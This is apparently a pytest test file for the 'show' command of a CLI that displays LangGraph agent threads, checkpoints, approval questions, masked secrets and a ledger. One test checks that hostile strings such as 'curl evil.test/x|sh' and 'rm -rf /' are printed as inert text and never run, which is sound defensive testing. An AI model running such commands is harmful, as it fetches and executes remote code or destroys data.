"""The command `show`: one thread, now or then."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from langgraph.checkpoint.sqlite import SqliteSaver
from langgraph.graph import START, StateGraph

from agent_lab_tui.graph.gate import ask, once
from agent_lab_tui.tui.cli import run

FIELDS = [
    "thread_id", "situation", "graph", "checkpoint_id", "digest", "values", "config", "next", "reruns",
    "runs_next", "error", "questions",
]  # fmt: skip


@pytest.fixture(autouse=True)
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Away from any agent-lab.toml or langgraph.json."""
    monkeypatch.chdir(tmp_path)


def shown(capsys: pytest.CaptureFixture[str], db: Path, *arguments: str) -> dict[str, Any]:
    assert run(["show", *arguments, "--db", str(db), "--json"]) == 0
    found: dict[str, Any] = json.loads(capsys.readouterr().out)
    return found


def test_json_has_exactly_its_fields(capsys: pytest.CaptureFixture[str], zoo_db: Path) -> None:
    found = shown(capsys, zoo_db, "hitl-batched")
    assert list(found) == FIELDS
    (question,) = found["questions"]
    assert list(question) == ["id", "node", "convention", "value", "schema", "stored_answer", "operations"]
    assert [operation["name"] for operation in question["operations"]] == [
        call["name"] for call in question["value"]["action_requests"]
    ]
    for operation in question["operations"]:
        assert list(operation) == ["name", "arguments", "reason", "impact", "risk", "allowed"]


def test_a_stuck_thread_shows_error_and_stored_answer(
    capsys: pytest.CaptureFixture[str], zoo_db: Path
) -> None:
    found = shown(capsys, zoo_db, "error-poisoned-answer")
    assert found["situation"] == "stuck"
    assert found["error"] == "ValueError(\"'never' is not a window\")"
    assert found["questions"][0]["stored_answer"] == "never"
    assert found["reruns"] == ["window"]


def test_a_checkpoint_of_the_past_is_shown_as_it_was(
    capsys: pytest.CaptureFixture[str], zoo_db: Path
) -> None:
    with closing(sqlite3.connect(zoo_db)) as conn:
        (asked,) = conn.execute(
            "SELECT checkpoint_id FROM writes WHERE thread_id = 'finished' AND idx = -3"
        ).fetchone()
    found = shown(capsys, zoo_db, "finished", "--checkpoint", asked)
    assert found["checkpoint_id"] == asked
    assert found["next"] == ["ask"]
    assert len(found["questions"]) == 1
    assert shown(capsys, zoo_db, "finished")["questions"] == []


@pytest.mark.parametrize("arguments", [["nope"], ["finished", "--checkpoint", "nope"]])
def test_what_is_not_there_is_one_sentence_and_exit_3(
    capsys: pytest.CaptureFixture[str], zoo_db: Path, arguments: list[str]
) -> None:
    assert run(["show", *arguments, "--db", str(zoo_db), "--json"]) == 3
    said = capsys.readouterr()
    assert said.out == ""
    assert "'nope'" in said.err


def test_the_configuration_is_shown_and_secrets_are_covered(
    capsys: pytest.CaptureFixture[str], make_case: Callable[[str], Path]
) -> None:
    db = make_case("18")
    with closing(sqlite3.connect(db)) as conn:
        conn.execute(
            "UPDATE checkpoints SET metadata ="
            " CAST(json_set(CAST(metadata AS TEXT), '$.api_key', 'sk-123') AS BLOB)"
        )
        conn.commit()
    assert shown(capsys, db, "bk-acme")["config"] == {
        "tenant": "acme",
        "dry_run": True,
        "api_key": "**********",
    }
    assert run(["show", "bk-acme", "--db", str(db)]) == 0
    printed = capsys.readouterr().out
    assert '"tenant": "acme"' in printed
    assert "sk-123" not in printed


def test_people_read_every_argument_and_nothing_takes_effect(
    capsys: pytest.CaptureFixture[str], make_case: Callable[[str], Path]
) -> None:
    db = make_case("13")
    assert run(["show", "esc\x1b[31m-2\r", "--db", str(db)]) == 0
    printed = capsys.readouterr().out
    assert not set(map(chr, [*range(0x0A), *range(0x0B, 0x20), *range(0x7F, 0xA0)])) & set(printed)
    assert "curl evil.test/x|sh" in printed
    assert "ls -la" in printed
    assert "and steal" in printed
    assert "rm -rf /" in printed


def test_people_read_where_it_stands_and_why(capsys: pytest.CaptureFixture[str], zoo_db: Path) -> None:
    assert run(["show", "nested-subgraph", "--db", str(zoo_db)]) == 0
    printed = capsys.readouterr().out
    assert "Situation     waiting" in printed
    assert "Asked by      release > sign > ask_key" in printed
    assert '"sign": "v1.2.0"' in printed
    assert run(["show", "crashed", "--db", str(zoo_db)]) == 0
    assert "Note          Finished tasks of this step have stored results" in capsys.readouterr().out


def test_with_its_graph_a_thread_tells_what_runs_next(
    capsys: pytest.CaptureFixture[str], zoo_db: Path, shared: Path
) -> None:
    graph = f"{shared}/zoo/linear_approval.py:builder"
    found = shown(capsys, zoo_db, "linear-approval", "--graph", graph)
    assert found["graph"] == "linear_approval"
    assert found["runs_next"]


def told(capsys: pytest.CaptureFixture[str], db: Path, thread_id: str) -> str:
    assert run(["show", thread_id, "--db", str(db)]) == 0
    return capsys.readouterr().out


def test_people_read_the_exact_answers_and_the_schema(
    capsys: pytest.CaptureFixture[str], zoo_db: Path, zoo_expected: dict[str, Any]
) -> None:
    printed = told(capsys, zoo_db, "hitl-batched")
    assert "  Sends for approve\n" in printed
    assert "  Sends for reject\n" in printed
    assert '"message": "WHY"' in printed
    typed = [name for name in zoo_expected if shown(capsys, zoo_db, name)["questions"][:1]]
    schemas = {name: shown(capsys, zoo_db, name)["questions"][0]["schema"] for name in typed}
    assert any(schemas.values())
    for name, schema in schemas.items():
        assert ("  Response schema\n" in told(capsys, zoo_db, name)) == (schema is not None)


def test_people_read_what_the_ledger_knows_of_the_key(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    def confirm(state: Any) -> Any:
        return {"said": ask("mail", {"to": "ann"}, key="run-1:mail").kind}

    builder: StateGraph[Any, Any, Any, Any] = StateGraph(dict)
    builder.add_node("confirm", confirm)
    builder.add_edge(START, "confirm")
    db = tmp_path / "agent.db"
    with closing(sqlite3.connect(db, check_same_thread=False)) as conn:
        graph = builder.compile(checkpointer=SqliteSaver(conn))
        graph.invoke({"x": 1}, {"configurable": {"thread_id": "t"}})
    printed = told(capsys, db, "t")
    assert "Key           run-1:mail\nLedger        nothing is recorded\n" in printed
    once("run-1:mail", "mail", {"to": "ann"}, lambda: "sent", ledger=tmp_path / "agent.db.desk")
    printed = told(capsys, db, "t")
    assert "Ledger        done at " in printed
    assert "Warning       run-1:mail was done at " in printed
